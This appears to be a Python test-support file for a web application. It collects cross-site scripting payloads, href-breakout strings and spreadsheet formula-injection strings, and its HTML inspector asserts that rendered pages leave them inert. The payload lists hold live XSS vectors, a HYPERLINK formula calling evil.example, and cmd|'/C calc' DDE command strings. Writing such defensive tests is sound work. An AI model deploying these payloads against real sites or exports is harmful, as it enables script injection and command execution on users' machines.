"""A corpus of cross-site scripting payloads, and the check that a page rendered them inert.

Each payload carries its own marker (`xss01`...), first in the text, so that a test can tell
which field showed which payload and that it was shown at all (as text), even where a
sanitiser (the alumni bio's Markdown) drops the dangerous part. Every payload fits the
shortest field it goes into (120 characters: names on accounts and certificates).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from html.parser import HTMLParser


@dataclass(frozen=True)
class Payload:
    marker: str
    text: str


_TEXTS = [
    "<script>alert('{m}')</script>",
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    "[click](javascript:alert('{m}'))",
    "[click](JaVaScRiPt:alert('{m}'))",
    "[click](  javascript:alert('{m}') \"title\")",
    "[click](java&#x09;script:alert('{m}'))",
    "<a href=\"javascript:alert('{m}')\">click</a>",
    "![x](x\" onerror=\"alert('{m}'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<body onload=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    "{{{{ 7*191 }}}}{{% print('{m}') %}}",
    "<a href=\"&#106;avascript:alert('{m}')\">click</a>",
    "<img src=\"x\" onerror=\"&#97;lert('{m}')\">",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"data:text/html,<script>alert('{m}')</script>\">",
    "<input autofocus onfocus=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "javascript:alert('{m}')",
    "<base href=\"javascript:alert('{m}')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
    "<form action=\"javascript:alert('{m}')\"><button>go</button></form>",
    "<<script>alert('{m}');//<</script>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<javascript:alert('{m}')>",
    "[click][1]\n\n[1]: javascript:alert('{m}')",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<a href=\"vbscript:msgbox('{m}')\">click</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "\" onmouseover=\"alert('{m}')\" x=\"",
    "' autofocus onfocus='alert(1)' x='",
    "<a href=\"  \tjavascript:alert('{m}')\">click</a>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<div style=\"background:url(javascript:alert('{m}'))\">x</div>",
    "<svg/onload=alert`{m}`>",
]

PAYLOADS: list[Payload] = [
    Payload(f"xss{number:02d}", f"xss{number:02d} " + text.format(m=f"xss{number:02d}"))
    for number, text in enumerate(_TEXTS, start=1)
]
assert len(PAYLOADS) >= 30
assert all(len(payload.text) <= 120 for payload in PAYLOADS), "a payload is too long"

# For the alumni website field: addresses that pass "starts with https://, no spaces" and try
# to break out of the href attribute they are printed in.
WEBSITE_PAYLOADS: list[Payload] = [
    Payload("xssw1", "https://example.org/xssw1\"><script>alert(1)</script>"),
    Payload("xssw2", "https://example.org/xssw2\"onmouseover=\"alert(1)"),
    Payload("xssw3", "https://example.org/xssw3'><svg/onload=alert(1)>"),
]
# Addresses the website field must refuse outright.
REFUSED_WEBSITES = [
    "javascript:alert('xssw4')",
    "JavaScript://example.org/%0aalert('xssw5')",
    "data:text/html,<script>alert('xssw6')</script>",
    "http://example.org/xssw7",
    "https://example.org/xssw8 onmouseover=alert(1)",
]

# What a spreadsheet would run as a formula; the CSV export must neutralise each.
FORMULA_PAYLOADS = [
    "=HYPERLINK(\"https://evil.example/?xssf1\",\"x\")",
    "+cmd|'/C calc'!A0 xssf2",
    "-2+3+cmd|'/C calc'!A0 xssf3",
    "@SUM(1+1)*cmd|'/C calc'!A0 xssf4",
    "\t=1+1 xssf5",
    "\r=1+1 xssf6",
]

# No page of ours has these elements: any one of them came from a user.
FORBIDDEN_TAGS = frozenset({"script", "iframe", "frame", "frameset", "object", "embed", "applet",
                            "base", "style", "math", "noscript", "video", "audio", "source",
                            "animate", "set", "mglyph"})
# The one script of ours (progressive enhancement), exactly as our templates write it.
OUR_SCRIPTS = ([("src", "/static/timezone.js"), ("defer", None)],)
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data",
                            "poster", "background", "srcset"})
# Attributes that legitimately carry user text (escaped): a marker there is expected.
TEXT_ATTRIBUTES = frozenset({"value", "aria-label", "title", "alt", "placeholder", "content",
                             "href", "action"})
TEMPLATE_EVALUATED = "xss21 1337"  # what payload xss21 becomes if a template evaluates it
_MARKER = re.compile(r"xss(?:\d\d|w\d|f\d)")
_DANGEROUS_URL = re.compile(r"^(?:javascript|vbscript|livescript|data:text/html)", re.IGNORECASE)


def _squeezed(url: str) -> str:
    """A URL as a browser reads its scheme: without spaces and control characters."""
    return "".join(char for char in url if char > " ")


class _Inspector(HTMLParser):
    """Collects the page's text and attribute values, and what no page of ours contains."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script" and attrs in OUR_SCRIPTS:
            return
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"a <{tag}> element")
        for name, value in attrs:
            value = value or ""
            self.text.append(value)
            if name.startswith("on"):
                self.problems.append(f"an event handler <{tag} {name}=...>")
            elif name == "style":
                self.problems.append(f"an inline style <{tag} style=...>")
            elif _MARKER.search(name):
                self.problems.append(f"an attribute from a payload <{tag} {name}>")
            elif name in URL_ATTRIBUTES and _DANGEROUS_URL.match(_squeezed(value)):
                self.problems.append(f"a script URL <{tag} {name}={value!r}>")
            elif name == "http-equiv" and value.lower() == "refresh":
                self.problems.append("a <meta http-equiv=refresh>")
            elif name not in TEXT_ATTRIBUTES and _MARKER.search(value):
                self.problems.append(f"a payload in <{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def is_markup(text: str) -> bool:
    """Whether the text is dangerous as it stands in a page's text. (Quotes are harmless there;
    in an attribute, one that breaks out adds an attribute, which the inspector catches.)"""
    return "<" in text


def assert_inert(html: str, where: str, *, shown: Iterable[str] = (),
                 payloads: Iterable[Payload] = PAYLOADS) -> None:
    """Fail if any payload appears unescaped in the page or introduced an element, an event
    handler or a script URL; and if a marker in `shown` is not on the page (as text)."""
    problems = [f"{payload.marker} appears unescaped" for payload in payloads
                if is_markup(payload.text) and payload.text in html]
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    problems += inspector.problems
    if TEMPLATE_EVALUATED in html:
        problems.append("a template expression in a payload was evaluated")
    text = "\n".join(inspector.text)
    problems += [f"{marker} is not shown" for marker in shown if marker not in text]
    assert not problems, f"{where}: " + "; ".join(dict.fromkeys(problems))
